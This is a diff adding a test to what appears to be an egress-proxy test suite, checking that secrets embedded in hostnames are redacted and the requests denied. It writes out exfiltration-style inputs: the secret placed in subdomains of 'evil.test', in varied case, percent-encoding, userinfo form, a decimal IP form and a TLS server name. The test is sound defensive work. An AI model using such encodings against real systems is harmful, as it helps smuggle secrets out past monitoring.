@@ -436,6 +436,59 @@ t.test("secrets reach neither the record nor the events", async (t) => {
   t.match(rig.record()[0]?.path, /x\[redac|x…/);
 });
 
+t.test("what the proxy answers, records and tells of a host shows no secret that its one spelling would", async (t) => {
+  const { createRedactor } = await import("#secret/redactor.ts");
+  const redactor = createRedactor();
+  redactor.add("token", "S3cr3tValue");
+  redactor.add("number", "2886794753");
+  const port = await serveHttp(t, (_, answer) => answer.end("ok"));
+  const rules = [
+    rule("*.good.test", port, { protocol: "http", allowPrivate: true }),
+    rule("*.tls.test", 443, { allowPrivate: true }),
+  ];
+  const rig = await openRig(t, { rules, scope: { redactor } });
+  const at = (host: string): string => `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
+  const connect = (host: string): string => `CONNECT ${host} HTTP/1.1\r\n\r\n`;
+  const answers = [
+    await say(t, rig.port, at("S3cr3tValue.evil.test")),
+    await say(t, rig.port, at("2886794753")),
+    await say(t, rig.port, connect("S3CR3TVALUE.evil.test:443")),
+    await say(t, rig.port, connect("u@s3cr3tvalue:443")),
+    await say(t, rig.port, connect("s3cr3t%56alue:443")),
+    await say(t, rig.port, `GET http://S3cr3tValue.good.test:${port}/ HTTP/1.1\r\nHost: 2886794753\r\n\r\n`),
+    await say(t, rig.port, at(`S3cr3tValue.good.test:${port}`).replace("close", "upgrade\r\nUpgrade: x")),
+    await say(t, rig.port, at(`S3cr3tValue.good.test:${port}`)),
+  ];
+  const tunnel = await connectThrough(t, rig.port, `S3cr3tValue.good.test:${port}`);
+  tunnel.socket.write(`POST /a HTTP/1.1\r\nHost: S3cr3tValue.good.test:${port}\r\nConnection: close\r\n\r\n`);
+  answers.push((await tunnel.closed).toString());
+  const tls = await connectThrough(t, rig.port, "S3cr3tValue.tls.test:443");
+  tls.socket.write(recordsOf(helloBytes([serverName("S3cr3tValue.other.test")]), []));
+  answers.push((await tls.closed).toString("latin1"));
+  await rig.session.fetch("http://S3cr3tValue.evil.test:81/", new AbortController().signal);
+  const { denied } = await rig.session.close();
+  const told = answers.join("\n") + JSON.stringify(denied) + rig.lines.text("egress.jsonl");
+  t.notMatch(told, /s3cr3t|2886794753|172\.16/i);
+  t.match(answers[0], /EGRESS_DENIED: no egress rule allows \[redacted:token\]\.evil\.test:80\nadd \[redacted:token\]/);
+  t.match(answers[7], /^HTTP\/1.1 200/);
+  t.strictSame(
+    rig.record().map(({ host, decision }) => [host, decision]),
+    [
+      ["[redacted:token].evil.test", "denied"],
+      ["[redacted:number]", "denied"],
+      ["[redacted:token].evil.test", "denied"],
+      ["[redacted:token]:443", "denied"],
+      ["[redacted:token]:443", "denied"],
+      ["[redacted:token].good.test", "denied"],
+      ["[redacted:token].good.test", "denied"],
+      ["[redacted:token].good.test", "allowed"],
+      ["[redacted:token].good.test", "allowed"],
+      ["[redacted:token].tls.test", "denied"],
+      ["[redacted:token].evil.test", "denied"],
+    ],
+  );
+});
+
 t.test("the end of an attempt cuts what is open, and refuses what comes later", async (t) => {
   const port = await serveTcp(t, (socket) => socket.write("hi"));
   const rig = await openRig(t, { rules: [rule("127.0.0.1", port, { protocol: "tcp" })] });
